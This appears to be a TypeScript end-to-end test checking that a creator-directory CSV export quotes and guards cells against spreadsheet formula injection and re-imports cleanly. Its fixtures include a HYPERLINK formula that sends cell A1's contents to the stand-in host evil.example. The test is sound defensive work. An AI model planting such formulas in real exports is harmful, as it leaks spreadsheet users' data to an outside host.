import Papa from 'papaparse';
import { makeCreator } from '../../src/lib/server/testing/factories';
import { test } from '../support/roles';
import { expect } from '../support/support';

// CSV injection (issue 15): Excel in German or French splits on `;`, so a formula may start after
// a separator inside a cell as well as at its start. The export quotes every cell and guards both,
// and our import still reads it back as the same creator.

test.use({ names: { owner: 'CSV injection' } });

test('a creator named x;=1+1 exports quoted and guarded, and reads back as the same creator', async ({
	owner,
	db
}) => {
	const name = 'x;=1+1';
	const notes = 'a,=HYPERLINK("http://evil.example/?"&A1,"x")';
	await makeCreator(db, owner.workspaceId, { name, notes });

	const response = await owner.api.get(`/w/${owner.workspaceId}/creators/export.csv`);
	expect(response.status()).toBe(200);
	const text = (await response.text()).replace(/^\uFEFF/, '');
	const [header, line] = text.split('\r\n');
	expect(header.startsWith('"name","platform","handle"')).toBe(true);
	expect(line.startsWith(`"x;'=1+1",""`)).toBe(true);
	expect(line).toContain(`"a,'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
	// Split as a spreadsheet on any separator would: no piece starts a formula.
	for (const piece of line.split(/[;,\t]/)) {
		expect(piece.replace(/^"/, '').trimStart(), piece).not.toMatch(/^[=+\-@\r]/);
	}
	const [row] = Papa.parse<Record<string, string>>(text, {
		header: true,
		skipEmptyLines: true
	}).data;
	expect(row).toMatchObject({
		name: "x;'=1+1",
		notes: `a,'=HYPERLINK("http://evil.example/?"&A1,"x")`
	});

	// Our import reads the guards off: the same creator, already in the directory.
	const file = new FormData();
	file.append('text', '');
	file.append('file', new File([text], 'export.csv', { type: 'text/csv' }));
	const preview = await owner.api.post(`/w/${owner.workspaceId}/creators/import?/preview`, {
		multipart: file
	});
	expect(preview.status()).toBe(200);
	expect(await preview.text()).toContain(
		'Every row is already in your directory, so there is nothing new to import.'
	);
});
